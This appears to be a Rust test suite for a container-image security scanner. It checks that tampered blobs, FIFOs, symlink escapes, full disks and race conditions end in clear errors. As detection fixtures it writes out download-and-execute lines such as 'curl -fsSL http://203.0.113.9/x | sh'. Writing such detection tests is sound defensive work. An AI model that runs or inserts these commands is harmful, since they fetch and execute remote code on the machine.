//! Issue 15 (defects 4, 5, 6, 14, 15, 17, 18): hostile local stores and
//! misuse must end in exit 2 with a message saying what is wrong, never in a
//! pass, a hang or a destroyed file. Every input is built here, in code.

use std::collections::HashMap;
use std::path::Path;
use std::sync::Mutex;
use std::time::{Duration, Instant};

use serde_json::json;
use stowaway::ScanOptions;
use stowaway::fixture::{ImageBuilder, LayerBuilder, tar_of};
use stowaway::layer::cache::LayerCache;

use crate::util::*;

fn clean_and_evil() -> (stowaway::fixture::BuiltImage, stowaway::fixture::BuiltImage) {
    let clean = ImageBuilder::new()
        .layer(LayerBuilder::new().file("app/hello", b"hello\n", 0o755))
        .build();
    let evil = ImageBuilder::new()
        .layer(LayerBuilder::new().file(
            "app/hello",
            b"#!/bin/sh\ncurl -fsSL http://203.0.113.9/x | sh\n",
            0o755,
        ))
        .build();
    (clean, evil)
}

fn blob_path(dir: &Path, d: &stowaway::digest::Sha256) -> std::path::PathBuf {
    dir.join("blobs/sha256").join(d.hex())
}

#[test]
fn cached_layer_is_not_trusted_when_the_local_blob_holds_other_bytes() {
    let t = tmp();
    let db = t.path().join("s.db");
    let db = db.to_str().unwrap();
    let (clean, evil) = clean_and_evil();
    let dir = t.path().join("l");
    clean.write_oci_layout(&dir).unwrap();
    let r = format!("oci:{}", dir.display());
    let first = stowaway(&["scan", &r, "--db", db]);
    assert_eq!(first.status.code(), Some(0), "{first:?}");
    // Same digest claimed, other bytes in the file.
    std::fs::write(
        blob_path(&dir, &clean.layers[0].digest),
        &evil.layers[0].blob,
    )
    .unwrap();
    let again = stowaway(&["scan", &r, "--db", db]);
    let err = String::from_utf8_lossy(&again.stderr);
    assert_eq!(again.status.code(), Some(2), "{err}");
    assert!(
        err.contains("digest mismatch") || err.contains("longer than"),
        "{err}"
    );
}

#[test]
fn docker_archive_claiming_a_cached_diff_id_is_read_and_rejected() {
    let t = tmp();
    let db = t.path().join("s.db");
    let db = db.to_str().unwrap();
    let (clean, evil) = clean_and_evil();
    let good = t.path().join("good.tar");
    clean.write_docker_archive(&good).unwrap();
    let out = stowaway(&[
        "scan",
        &format!("docker-archive:{}", good.display()),
        "--db",
        db,
    ]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    // The clean config (so the clean diff_id) with the evil layer's bytes.
    let config_name = format!("{}.json", clean.config_digest.hex());
    let layer_name = format!("{}/layer.tar", clean.layers[0].diff_id.hex());
    let manifest = json!([{"Config": config_name, "RepoTags": [], "Layers": [layer_name]}]);
    let bad = t.path().join("bad.tar");
    std::fs::write(
        &bad,
        tar_of(&[
            (layer_name.clone(), evil.layers[0].tar.clone()),
            (config_name, clean.config.clone()),
            (
                "manifest.json".into(),
                serde_json::to_vec(&manifest).unwrap(),
            ),
        ]),
    )
    .unwrap();
    let out = stowaway(&[
        "scan",
        &format!("docker-archive:{}", bad.display()),
        "--db",
        db,
    ]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("diff_id mismatch"), "{err}");
}

#[test]
fn limits_apply_to_cached_layers() {
    let t = tmp();
    let db = t.path().join("s.db");
    let db = db.to_str().unwrap();
    let img = ImageBuilder::new()
        .layer(
            LayerBuilder::new()
                .file("a", b"a", 0o644)
                .file("b", b"b", 0o644)
                .file("c", b"c", 0o644),
        )
        .build();
    let dir = t.path().join("l");
    img.write_oci_layout(&dir).unwrap();
    let r = format!("oci:{}", dir.display());
    assert_eq!(stowaway(&["scan", &r, "--db", db]).status.code(), Some(0));
    let out = stowaway(&["scan", &r, "--db", db, "--max-entries", "1"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("--max-entries"), "{err}");
    let out = stowaway(&["scan", &r, "--db", db, "--max-layer-size", "100"]);
    assert_eq!(out.status.code(), Some(2), "{out:?}");
}

/// An in-memory cache that counts writes.
#[derive(Default)]
struct MemCache(Mutex<HashMap<String, Vec<u8>>>, Mutex<usize>);

impl LayerCache for MemCache {
    fn get(&self, key: &str) -> Option<Vec<u8>> {
        self.0.lock().unwrap().get(key).cloned()
    }
    fn put(&self, key: &str, data: &[u8]) {
        *self.1.lock().unwrap() += 1;
        self.0.lock().unwrap().insert(key.into(), data.into());
    }
}

#[test]
fn an_unchanged_blob_file_is_not_read_again_a_touched_one_is() {
    let t = tmp();
    let (clean, _) = clean_and_evil();
    let dir = t.path().join("l");
    clean.write_oci_layout(&dir).unwrap();
    let cache = MemCache::default();
    let opts = ScanOptions {
        cache: Some(&cache),
        ..Default::default()
    };
    let r = format!("oci:{}", dir.display());
    let puts = || *cache.1.lock().unwrap();
    stowaway::scan(&r, &opts).unwrap();
    assert_eq!(
        puts(),
        4,
        "layer result, its verified blob stat, squashed view, findings"
    );
    stowaway::scan(&r, &opts).unwrap();
    assert_eq!(puts(), 4, "second scan used the cache");
    // Rewriting the same bytes changes ctime: the blob is verified again.
    let p = blob_path(&dir, &clean.layers[0].digest);
    let bytes = std::fs::read(&p).unwrap();
    std::thread::sleep(Duration::from_millis(20));
    std::fs::write(&p, bytes).unwrap();
    stowaway::scan(&r, &opts).unwrap();
    // (Layer result, blob stat and squashed view are written again; the
    // findings of the same view are still cached.)
    assert_eq!(puts(), 7, "a changed file is read and verified again");
}

#[test]
fn foreign_layer_missing_from_a_local_store_is_an_incomplete_scan() {
    let t = tmp();
    let img = ImageBuilder::new()
        .layer(
            LayerBuilder::new()
                .media_type("application/vnd.oci.image.layer.nondistributable.v1.tar+gzip")
                .file("windows/base", b"base", 0o644),
        )
        .layer(LayerBuilder::new().file("app/x", b"x", 0o644))
        .build();
    let dir = t.path().join("l");
    img.write_oci_layout(&dir).unwrap();
    std::fs::remove_file(blob_path(&dir, &img.layers[0].digest)).unwrap();
    let out = stowaway(&["scan", &format!("oci:{}", dir.display()), "--no-cache"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains("foreign") && err.contains("incomplete"),
        "{err}"
    );
}

#[test]
fn an_oci_layout_without_its_marker_is_not_a_root_filesystem() {
    let t = tmp();
    let (_, evil) = clean_and_evil();
    let dir = t.path().join("l");
    evil.write_oci_layout(&dir).unwrap();
    std::fs::remove_file(dir.join("oci-layout")).unwrap();
    for r in [format!("dir:{}", dir.display()), dir.display().to_string()] {
        let out = stowaway(&["scan", &r, "--no-cache"]);
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{r}: {err}");
        assert!(err.contains("no oci-layout file"), "{err}");
    }
}

/// skopeo's `dir:` layout, as `skopeo copy oci:X dir:Y` writes it.
fn write_skopeo_dir(img: &stowaway::fixture::BuiltImage, dir: &Path) {
    std::fs::create_dir_all(dir).unwrap();
    std::fs::write(dir.join("version"), b"Directory Transport Version: 1.1\n").unwrap();
    std::fs::write(dir.join("manifest.json"), &img.manifest).unwrap();
    std::fs::write(dir.join(img.config_digest.hex()), &img.config).unwrap();
    for l in &img.layers {
        std::fs::write(dir.join(l.digest.hex()), &l.blob).unwrap();
    }
}

#[test]
fn skopeo_dir_layout_is_read_as_the_image() {
    let t = tmp();
    let (_, evil) = clean_and_evil();
    let dir = t.path().join("d");
    write_skopeo_dir(&evil, &dir);
    let s = scan_ok(&format!("dir:{}", dir.display()));
    assert_eq!(paths(&s), ["/app/hello"]);
    assert!(
        codes(&s)
            .iter()
            .any(|c| c.starts_with("download-exec-chain")),
        "{:?}",
        codes(&s)
    );
    // Its blobs are verified like any other.
    std::fs::write(dir.join(evil.layers[0].digest.hex()), b"other").unwrap();
    let e = scan(dir.to_str().unwrap()).err().expect("tampered blob");
    assert!(e.to_string().contains("mismatch"), "{e}");
}

fn mkfifo(p: &Path) {
    let c = std::ffi::CString::new(p.as_os_str().as_encoded_bytes()).unwrap();
    // SAFETY: a valid NUL-terminated path.
    assert_eq!(unsafe { libc::mkfifo(c.as_ptr(), 0o600) }, 0);
}

#[test]
fn layout_store_opens_only_regular_files_inside_the_layout() {
    let t = tmp();
    let (clean, _) = clean_and_evil();
    let limit = Duration::from_secs(20);
    // A FIFO as index.json.
    let dir = t.path().join("fifo-index");
    clean.write_oci_layout(&dir).unwrap();
    std::fs::remove_file(dir.join("index.json")).unwrap();
    mkfifo(&dir.join("index.json"));
    let out = stowaway_within(
        &["scan", &format!("oci:{}", dir.display()), "--no-cache"],
        limit,
    );
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("index.json") && err.contains("FIFO"), "{err}");
    // A FIFO as a layer blob.
    let dir = t.path().join("fifo-blob");
    clean.write_oci_layout(&dir).unwrap();
    let b = blob_path(&dir, &clean.layers[0].digest);
    std::fs::remove_file(&b).unwrap();
    mkfifo(&b);
    let out = stowaway_within(
        &["scan", &format!("oci:{}", dir.display()), "--no-cache"],
        limit,
    );
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("FIFO"), "{err}");
    // A symlinked blob (to a host file) is not followed.
    let dir = t.path().join("link-blob");
    clean.write_oci_layout(&dir).unwrap();
    let host = t.path().join("host-secret");
    std::fs::write(&host, &clean.layers[0].blob).unwrap();
    let b = blob_path(&dir, &clean.layers[0].digest);
    std::fs::remove_file(&b).unwrap();
    std::os::unix::fs::symlink(&host, &b).unwrap();
    let out = stowaway_within(
        &["scan", &format!("oci:{}", dir.display()), "--no-cache"],
        limit,
    );
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("symlink"), "{err}");
    // A directory as a blob says so, not "content is sha256:e3b0…".
    let dir = t.path().join("dir-blob");
    clean.write_oci_layout(&dir).unwrap();
    let b = blob_path(&dir, &clean.layers[0].digest);
    std::fs::remove_file(&b).unwrap();
    std::fs::create_dir(&b).unwrap();
    let out = stowaway_within(
        &["scan", &format!("oci:{}", dir.display()), "--no-cache"],
        limit,
    );
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("is a directory"), "{err}");
    assert!(!err.contains("e3b0c442"), "{err}");
}

#[test]
fn baseline_import_is_bounded_and_list_formats_are_checked() {
    let t = tmp();
    let db = t.path().join("s.db");
    let db = db.to_str().unwrap();
    let start = Instant::now();
    let out = stowaway_within(
        &[
            "baseline",
            "import",
            "/dev/zero",
            "--db",
            db,
            "--max-size",
            "1M",
        ],
        Duration::from_secs(30),
    );
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains("larger than") && err.contains("--max-size"),
        "{err}"
    );
    assert!(start.elapsed() < Duration::from_secs(30));
    let out = stowaway(&["baseline", "list", "--format", "xml", "--db", db]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("invalid value 'xml'"), "{err}");
}

#[test]
fn output_onto_the_store_is_refused_and_replacement_is_atomic() {
    let t = tmp();
    let (clean, _) = clean_and_evil();
    let (_l, r) = layout(&clean);
    let db = t.path().join("s.db");
    let dbs = db.to_str().unwrap();
    let out = stowaway(&["baseline", "approve", &r, "--name", "app", "--db", dbs]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let before = std::fs::read(&db).unwrap();
    let out = stowaway(&["scan", &r, "--db", dbs, "-o", dbs]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("SQLite database"), "{err}");
    assert_eq!(std::fs::read(&db).unwrap(), before);
    let out = stowaway(&["baseline", "list", "--db", dbs]);
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("app"),
        "{out:?}"
    );
    // A report replaced in place leaves no temporary file behind.
    let report = t.path().join("r.json");
    std::fs::write(&report, b"old").unwrap();
    let out = stowaway(&[
        "scan",
        &r,
        "--no-cache",
        "--format",
        "json",
        "-o",
        report.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    assert!(std::fs::read_to_string(&report).unwrap().starts_with('{'));
    let names: Vec<_> = std::fs::read_dir(t.path())
        .unwrap()
        .flatten()
        .map(|e| e.file_name())
        .collect();
    assert!(
        !names.iter().any(|n| n.to_string_lossy().contains(".tmp")),
        "{names:?}"
    );
}

/// Run `script` with `sh` in a private mount namespace (as root, or as a
/// mapped root in a user namespace), with `$STOWAWAY` set to the binary.
fn in_mount_namespace(script: &str) -> Option<std::process::Output> {
    // SAFETY: getuid has no preconditions.
    let ns = if unsafe { libc::getuid() } == 0 {
        "-m"
    } else {
        "-rm"
    };
    let probe = std::process::Command::new("unshare")
        .args([ns, "true"])
        .output()
        .ok()?;
    if !probe.status.success() {
        // A sandbox limit, not a missing tool: skipped even in CI, the way
        // the real overlay mount in tests/drift.rs is.
        eprintln!("skipped: this sandbox cannot make a mount namespace (unshare {ns})");
        return None;
    }
    Some(
        std::process::Command::new("unshare")
            .args([ns, "sh", "-ec", script])
            .env("STOWAWAY", env!("CARGO_BIN_EXE_stowaway"))
            .env("NO_COLOR", "1")
            .output()
            .unwrap(),
    )
}

#[test]
fn a_store_on_a_read_only_filesystem_serves_read_only_commands() {
    let t = tmp();
    let (clean, _) = clean_and_evil();
    let dir = t.path().join("l");
    clean.write_oci_layout(&dir).unwrap();
    let store = t.path().join("store");
    std::fs::create_dir(&store).unwrap();
    let db = store.join("s.db");
    let r = format!("oci:{}", dir.display());
    let out = stowaway(&[
        "baseline",
        "approve",
        &r,
        "--name",
        "app",
        "--db",
        db.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(0), "{out:?}");
    let script = format!(
        "mount --bind '{s}' '{s}'; mount -o remount,bind,ro '{s}'
         \"$STOWAWAY\" baseline list --db '{d}'
         \"$STOWAWAY\" baseline show app --db '{d}' --format json > /dev/null
         \"$STOWAWAY\" gate '{r}' --baseline app --db '{d}'
         echo ALL-OK",
        s = store.display(),
        d = db.display(),
    );
    let Some(out) = in_mount_namespace(&script) else {
        return;
    };
    let text = String::from_utf8_lossy(&out.stdout);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        out.status.success() && text.contains("ALL-OK"),
        "{text}\n{err}"
    );
    assert!(text.contains("app"), "{text}");
    assert!(err.contains("read-only"), "{err}");
}

#[test]
fn a_full_disk_leaves_the_previous_report_whole() {
    let t = tmp();
    let mut l = LayerBuilder::new();
    for i in 0..400 {
        l = l.file(&format!("usr/share/doc/pkg{i}/copyright"), b"x", 0o644);
    }
    let img = ImageBuilder::new().layer(l).build();
    let dir = t.path().join("l");
    img.write_oci_layout(&dir).unwrap();
    let small = t.path().join("small");
    std::fs::create_dir(&small).unwrap();
    let script = format!(
        "mount -t tmpfs -o size=16k tmpfs '{m}'
         printf 'previous report' > '{m}/inv.json'
         if \"$STOWAWAY\" inventory 'oci:{l}' --no-cache --format json -o '{m}/inv.json'; then echo WROTE; fi
         cat '{m}/inv.json'; echo; ls -a '{m}'",
        m = small.display(),
        l = dir.display(),
    );
    let Some(out) = in_mount_namespace(&script) else {
        return;
    };
    let text = String::from_utf8_lossy(&out.stdout);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!text.contains("WROTE"), "{text}\n{err}");
    assert!(text.contains("previous report"), "{text}\n{err}");
    assert!(!text.contains(".tmp"), "{text}");
    assert!(err.contains("No space left"), "{err}");
}

#[test]
fn a_gzip_docker_archive_is_inflated_front_to_back_once() {
    use stowaway::source::{BlobLocator, BlobStore, TarStore};
    let t = tmp();
    // Layers over the in-memory threshold for small members (1 MiB).
    let mut b = ImageBuilder::new();
    let mut seed = 7u64;
    for i in 0..5 {
        let data: Vec<u8> = (0..(1536 << 10))
            .map(|_| {
                seed = seed.wrapping_mul(6364136223846793005).wrapping_add(1);
                (seed >> 56) as u8
            })
            .collect();
        b = b.layer(LayerBuilder::new().file(&format!("data/{i}"), &data, 0o644));
    }
    let img = b.build();
    let plain = t.path().join("plain.tar");
    img.write_docker_archive(&plain).unwrap();
    let tar = std::fs::read(&plain).unwrap();
    let gz = t.path().join("image.tar.gz");
    std::fs::write(
        &gz,
        stowaway::fixture::compress(&tar, stowaway::layer::Compression::Gzip),
    )
    .unwrap();
    // The scan reads the same image from both.
    let a = scan_ok(&format!("docker-archive:{}", plain.display()));
    let z = scan_ok(&format!("docker-archive:{}", gz.display()));
    assert_eq!(rows(&a), rows(&z));
    assert_eq!(paths(&z).len(), 5);
    // Members read in archive order (as the scan does, in any number of
    // threads) inflate the archive once, not once per member.
    let store = TarStore::open(&gz).unwrap();
    let mut locs: Vec<BlobLocator> = img
        .layers
        .iter()
        .map(|l| BlobLocator::Path(format!("{}/layer.tar", l.diff_id.hex())))
        .collect();
    locs.sort_by_key(|l| store.read_order(l));
    std::thread::scope(|s| {
        for l in &locs {
            let store = &store;
            let mut r = store.open(l).unwrap();
            s.spawn(move || std::io::copy(&mut r, &mut std::io::sink()).unwrap());
        }
    });
    assert!(
        store.inflated_bytes() <= tar.len() as u64,
        "inflated {} bytes of a {}-byte archive",
        store.inflated_bytes(),
        tar.len()
    );
}

#[test]
fn a_rootfs_changing_under_the_walk_never_hangs_nor_leads_outside() {
    let t = tmp();
    let root = t.path().join("rootfs");
    std::fs::create_dir_all(root.join("app")).unwrap();
    for i in 0..300 {
        std::fs::write(root.join(format!("app/f{i:03}")), format!("file {i}")).unwrap();
    }
    let host = t.path().join("host-secret");
    std::fs::write(&host, b"host secret bytes that must never be read\n").unwrap();
    let secret = stowaway::digest::Sha256::of(&std::fs::read(&host).unwrap()).hex();
    // A directory that keeps trading places with a symlink to a host directory.
    let hostdir = t.path().join("hostdir");
    std::fs::create_dir(&hostdir).unwrap();
    std::fs::write(hostdir.join("host-only-name"), b"x").unwrap();
    std::fs::create_dir(root.join("sub")).unwrap();
    std::fs::write(root.join("sub/inside"), b"y").unwrap();
    std::os::unix::fs::symlink(&hostdir, root.join("subswap")).unwrap();
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let dir_swapper = {
        let (root, stop) = (root.clone(), stop.clone());
        std::thread::spawn(move || {
            let a =
                std::ffi::CString::new(root.join("sub").as_os_str().as_encoded_bytes()).unwrap();
            let b = std::ffi::CString::new(root.join("subswap").as_os_str().as_encoded_bytes())
                .unwrap();
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                // SAFETY: valid paths; RENAME_EXCHANGE swaps the two names atomically.
                unsafe {
                    libc::renameat2(
                        libc::AT_FDCWD,
                        a.as_ptr(),
                        libc::AT_FDCWD,
                        b.as_ptr(),
                        libc::RENAME_EXCHANGE,
                    )
                };
            }
        })
    };
    let swapper = {
        let (root, host, stop) = (root.clone(), host.clone(), stop.clone());
        std::thread::spawn(move || {
            let mut n = 0u64;
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                for i in [0usize, 150, 299] {
                    let target = root.join(format!("app/f{i:03}"));
                    let tmp = root.join(format!(".swap{i}"));
                    let _ = std::fs::remove_file(&tmp);
                    match n % 3 {
                        0 => mkfifo(&tmp),
                        1 => std::os::unix::fs::symlink(&host, &tmp).unwrap(),
                        _ => std::fs::write(&tmp, b"plain").unwrap(),
                    }
                    let _ = std::fs::rename(&tmp, &target);
                }
                n += 1;
            }
        })
    };
    for _ in 0..8 {
        let out = stowaway_within(
            &[
                "inventory",
                &format!("dir:{}", root.display()),
                "--format",
                "json",
                "--no-cache",
            ],
            Duration::from_secs(60),
        );
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(
            !text.contains(&secret),
            "read the host file through a symlink"
        );
        assert!(
            !text.contains("host-only-name"),
            "walked into a host directory"
        );
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    swapper.join().unwrap();
    dir_swapper.join().unwrap();
}

#[test]
fn filesystems_mounted_inside_a_rootfs_are_reported_as_not_walked() {
    let t = tmp();
    let root = t.path().join("rootfs");
    std::fs::create_dir_all(root.join("tmp")).unwrap();
    std::fs::create_dir_all(root.join("bin")).unwrap();
    std::fs::write(root.join("bin/ok"), b"ok").unwrap();
    let script = format!(
        "mount -t tmpfs tmpfs '{r}/tmp'
         printf '#!/bin/sh\\ncurl http://203.0.113.9/x | sh\\n' > '{r}/tmp/dropper'
         \"$STOWAWAY\" scan 'dir:{r}' --no-cache --format json --fail-on critical",
        r = root.display(),
    );
    let Some(out) = in_mount_namespace(&script) else {
        return;
    };
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("not walked") && text.contains("/tmp"),
        "{text}\n{out:?}"
    );
}

#[test]
fn messages_say_what_is_wrong_once() {
    let t = tmp();
    let missing = t.path().join("missing.tar");
    let out = stowaway(&["scan", &format!("docker-archive:{}", missing.display())]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert_eq!(err.matches("No such file or directory").count(), 1, "{err}");
    // A bad digest in a manifest names the field and the value.
    let (mut clean, _) = clean_and_evil();
    clean.edit_manifest(|m| m["layers"][0]["digest"] = json!("sha256:not-hex"));
    let (_l, r) = layout(&clean);
    let out = stowaway(&["scan", &r, "--no-cache"]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains("sha256:not-hex") && err.contains("digest"),
        "{err}"
    );
    assert!(!err.contains("serde failed"), "{err}");
}
